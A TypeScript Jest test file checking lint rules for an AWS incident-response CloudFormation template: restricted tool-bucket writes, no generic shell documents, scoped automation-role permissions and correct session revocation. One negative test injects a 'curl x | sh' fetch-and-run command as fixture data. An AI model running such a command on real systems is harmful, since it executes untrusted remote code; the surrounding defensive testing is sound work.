import { CaptureArtifactsRunbook } from '../../../../nag-rules/rules/response/capture-artifacts-runbook';
import { IncidentResponseRoleScoped } from '../../../../nag-rules/rules/response/incident-response-role-scoped';
import { RevokeCredentialsRunbook } from '../../../../nag-rules/rules/response/revoke-credentials-runbook';
import { check, failures, productIdOf, productTemplate } from '../../rule-harness';
import { messageLines, messages } from '../../rule-findings';
import { responseTemplate, runbook } from './fixtures';

/*
 * The incident-response tools cannot be turned against the cluster: the automation role holds only fixed content
 * (REM-7), IR-6 runs the template's own Command document with a fixed checksum and tools only the publishers write
 * (REM-6), and IR-3's policy is written by a function of the template (REM-3).
 */

const PUBLISHER = 'arn:aws:iam::111122223333:role/ToolsPublisher';
const evidenceArn = { 'Fn::GetAtt': ['Evidence', 'Arn'] };
const under = (prefix: string) => ({ 'Fn::Join': ['', [evidenceArn, `/${prefix}`]] });
const toolsDeny = (exempt: unknown[] = [PUBLISHER], resource: unknown = under('tools/*')) => ({
  Effect: 'Deny',
  Principal: { AWS: '*' },
  Action: 's3:PutObject',
  Resource: resource,
  Condition: { ArnNotEquals: { 'aws:PrincipalArn': exempt } },
});

/** The fixture's IR role reads tools/* from the evidence bucket, whose policy has the given statements. */
function withTools(...statements: unknown[]): Record<string, any> {
  const t = responseTemplate();
  t.Resources.IrRole.Properties.Policies[0].PolicyDocument.Statement.push({
    Effect: 'Allow',
    Action: 's3:GetObject',
    Resource: under('tools/*'),
  });
  t.Resources.EvidencePolicy = {
    Type: 'AWS::S3::BucketPolicy',
    Properties: { Bucket: { Ref: 'Evidence' }, PolicyDocument: { Statement: statements } },
  };
  return t;
}

describe('REM-6: the tools the capture runs are writable only by named publishers', () => {
  test('compliant: the bucket denies writing tools/* (or everything) to all but the publisher', () => {
    expect(check(CaptureArtifactsRunbook, withTools(toolsDeny()), 'C').status).toBe('pass');
    expect(check(CaptureArtifactsRunbook, withTools(toolsDeny([PUBLISHER], under('*'))), 'C').status).toBe('pass');
  });

  test('non-compliant: no such deny; a deny on another prefix; a wildcard exemption; the IR role itself exempted', () => {
    expect(messageLines(check(CaptureArtifactsRunbook, withTools(), 'C'))).toMatch(
      /the runbook's role reads tools\/\* from bucket Evidence, and the bucket policy does not deny s3:PutObject on it to principals other than the publishers/,
    );
    expect(check(CaptureArtifactsRunbook, withTools(toolsDeny([PUBLISHER], under('incidents/*'))), 'C').status).toBe(
      'fail',
    );
    expect(
      messageLines(check(CaptureArtifactsRunbook, withTools(toolsDeny(['arn:aws:iam::111122223333:role/*'])), 'C')),
    ).toMatch(
      /deny of s3:PutObject on it does not hold \(it exempts every principal matching arn:aws:iam::111122223333:role\/\*\)/,
    );
    expect(
      messageLines(
        check(CaptureArtifactsRunbook, withTools(toolsDeny([PUBLISHER, { 'Fn::GetAtt': ['IrRole', 'Arn'] }])), 'C'),
      ),
    ).toMatch(/it exempts IrRole, which is not a publisher of tools/);
  });

  test('the real product passes; it fails once tools/ is writable by the whole organization again', () => {
    const template = productTemplate();
    expect(failures(CaptureArtifactsRunbook, template)).toEqual([]);
    for (const resource of Object.values<any>(template.Resources)) {
      if (resource.Type !== 'AWS::S3::BucketPolicy') continue;
      resource.Properties.PolicyDocument.Statement = resource.Properties.PolicyDocument.Statement.filter(
        (s: any) => s.Sid !== 'OnlyToolPublishersWriteTools',
      );
    }
    const [failed] = failures(CaptureArtifactsRunbook, template);
    expect(messages(failed)).toEqual([
      expect.stringMatching(
        /the runbook's role reads tools\/\* from bucket EvidenceBucket\w+, and the bucket policy's deny of s3:PutObject on it does not hold/,
      ),
    ]);
  });
});

describe('REM-6: IR-6 runs a Command document of the template, every parameter constrained, the checksum fixed', () => {
  test('non-compliant: AWS-RunShellScript; a parameter that takes anything; a checksum the caller chooses', () => {
    const shell = responseTemplate();
    shell.Resources.Capture.Properties.Content.mainSteps[0].inputs = {
      DocumentName: 'AWS-RunShellScript',
      InstanceIds: ['{{ InstanceId }}'],
      Parameters: { commands: ['ps auxf'] },
    };
    expect(messageLines(check(CaptureArtifactsRunbook, shell, 'C'))).toMatch(
      /Capture runs AWS-RunShellScript on the node, which is not a Command document of the template/,
    );
    const free = responseTemplate();
    free.Resources.CaptureCommand.Properties.Content.parameters.Extra = { type: 'String' };
    expect(messageLines(check(CaptureArtifactsRunbook, free, 'C'))).toMatch(
      /parameter Extra of CaptureCommand takes any value into the command/,
    );
    const chosen = responseTemplate();
    chosen.Resources.CaptureCommand.Properties.Content.parameters.AvmlSha256 = {
      type: 'String',
      allowedPattern: '^[a-f0-9]{64}$',
    };
    expect(messageLines(check(CaptureArtifactsRunbook, chosen, 'C'))).toMatch(
      /the checksum parameter AvmlSha256 of CaptureCommand is not fixed by the template/,
    );
  });

  test('compliant: no checksum configured is a fixed empty value (the script refuses)', () => {
    const none = responseTemplate();
    none.Resources.CaptureCommand.Properties.Content.parameters.AvmlSha256 = {
      type: 'String',
      allowedPattern: '^$',
      default: '',
    };
    expect(check(CaptureArtifactsRunbook, none, 'C').status).toBe('pass');
  });

  test('the real product fails once IR-6 runs AWS-RunShellScript again', () => {
    const template = productTemplate();
    const [id] = Object.entries<any>(template.Resources).find(
      ([, r]) => r.Type === 'AWS::SSM::Document' && JSON.stringify(r.Properties.Tags ?? []).includes('IR-6'),
    )!;
    const step = template.Resources[id].Properties.Content.mainSteps.find((s: any) => s.action === 'aws:runCommand');
    step.inputs = {
      DocumentName: 'AWS-RunShellScript',
      InstanceIds: ['{{ InstanceId }}'],
      Parameters: { commands: ['curl x | sh'] },
    };
    expect(messages(failures(CaptureArtifactsRunbook, template)[0])).toEqual([
      expect.stringMatching(/runs AWS-RunShellScript on the node, which is not a Command document of the template/),
    ]);
  });
});

describe('REM-7: the automation role holds only fixed-content actions', () => {
  /** IncidentResponseRoleScoped once the automation role's inline policy also allows the statement. */
  const withStatement = (statement: Record<string, unknown>) => {
    const t = responseTemplate();
    t.Resources.IrRole.Properties.Policies[0].PolicyDocument.Statement.push(statement);
    return check(IncidentResponseRoleScoped, t, 'C');
  };

  test.each([
    [
      'a shell document',
      { Effect: 'Allow', Action: 'ssm:SendCommand', Resource: 'arn:aws:ssm:eu-west-1::document/AWS-RunShellScript' },
      /inline policy ir of IrRole lets the incident-response role run arn:aws:ssm:eu-west-1::document\/AWS-RunShellScript with ssm:SendCommand, which is not a Command document of the template/,
    ],
    [
      'any function',
      { Effect: 'Allow', Action: 'lambda:InvokeFunction', Resource: '*' },
      /lets the incident-response role invoke \*, which is not a Lambda function of the template/,
    ],
    [
      'an inline policy of its own choosing',
      { Effect: 'Allow', Action: 'iam:PutRolePolicy', Resource: 'arn:aws:iam::111122223333:role/workloads/*' },
      /allows the incident-response role iam:PutRolePolicy/,
    ],
    [
      'documents of its own writing',
      { Effect: 'Allow', Action: 'ssm:*Document', Resource: '*' },
      /allows the incident-response role ssm:CreateDocument, ssm:UpdateDocument/,
    ],
  ])('non-compliant: %s', (_case, statement, message) => {
    const result = withStatement(statement);
    expect(result.status).toBe('fail');
    expect(messageLines(result)).toMatch(message);
  });

  test('non-compliant: any document of the account', () => {
    const anyDocument = withStatement({
      Effect: 'Allow',
      Action: 'ssm:SendCommand',
      Resource: 'arn:aws:ssm:eu-west-1:111122223333:document/*',
    });
    expect(anyDocument.status).toBe('fail');
  });

  test('the real product fails once the automation role may run AWS-RunShellScript or write role policies again', () => {
    const template = productTemplate();
    const [policyId] = Object.entries<any>(template.Resources).find(
      ([, r]) =>
        r.Type === 'AWS::IAM::Policy' && JSON.stringify(r.Properties.PolicyDocument).includes('RunOwnCommandDocuments'),
    )!;
    template.Resources[policyId].Properties.PolicyDocument.Statement.push(
      { Effect: 'Allow', Action: 'ssm:SendCommand', Resource: 'arn:aws:ssm:eu-west-1::document/AWS-RunShellScript' },
      { Effect: 'Allow', Action: 'iam:PutRolePolicy', Resource: 'arn:aws:iam::111122223333:role/workloads/*' },
    );
    expect(messages(failures(IncidentResponseRoleScoped, template)[0])).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/allows the incident-response role iam:PutRolePolicy/),
        expect.stringMatching(
          /AWS-RunShellScript with ssm:SendCommand, which is not a Command document of the template/,
        ),
      ]),
    );
  });
});

describe('REM-3: the revocation policy written by a function of the template (inline code)', () => {
  const revoker = (code: string) => {
    const t = responseTemplate();
    t.Resources.Revoker = {
      Type: 'AWS::Lambda::Function',
      Properties: { Role: 'arn:aws:iam::111122223333:role/r', Code: { ZipFile: code } },
    };
    t.Resources.Revoke = runbook('IR-3', [
      {
        name: 'Revoke',
        action: 'aws:invokeLambdaFunction',
        inputs: { FunctionName: { 'Fn::GetAtt': ['Revoker', 'Arn'] }, Payload: '{"roleName":"{{ RoleName }}"}' },
      },
    ]);
    return t;
  };

  test("compliant: the invoked function's code puts the DateLessThan aws:TokenIssueTime policy", () => {
    expect(
      check(
        RevokeCredentialsRunbook,
        revoker(
          "iam.put_role_policy(PolicyDocument=json.dumps({'Condition': {'DateLessThan': {'aws:TokenIssueTime': now}}}))",
        ),
        'C',
      ).status,
    ).toBe('pass');
  });

  test('non-compliant: a function whose code denies only new sessions; a function whose code is not in the template', () => {
    expect(
      messageLines(
        check(
          RevokeCredentialsRunbook,
          revoker("iam.put_role_policy(PolicyDocument={'DateGreaterThan': {'aws:TokenIssueTime': now}})"),
          'C',
        ),
      ),
    ).toMatch(/Revoke has no DateLessThan aws:TokenIssueTime condition/);
    const asset = revoker('');
    asset.Resources.Revoker.Properties.Code = { S3Bucket: 'b', S3Key: 'k.zip' };
    expect(messageLines(check(RevokeCredentialsRunbook, asset, 'C'))).toMatch(/Revoke puts no role policy/);
  });

  test("the real product passes (its revoker's code is inline) and fails once the revoker denies only later sessions", () => {
    const template = productTemplate();
    expect(failures(RevokeCredentialsRunbook, template)).toEqual([]);
    const id = productIdOf(template, 'AWS::Lambda::Function', 'IncidentResponseRoleSessionRevoker');
    template.Resources[id].Properties.Code.ZipFile = template.Resources[id].Properties.Code.ZipFile.replace(
      'DateLessThan',
      'DateGreaterThan',
    );
    expect(failures(RevokeCredentialsRunbook, template).length).toBe(1);
  });
});
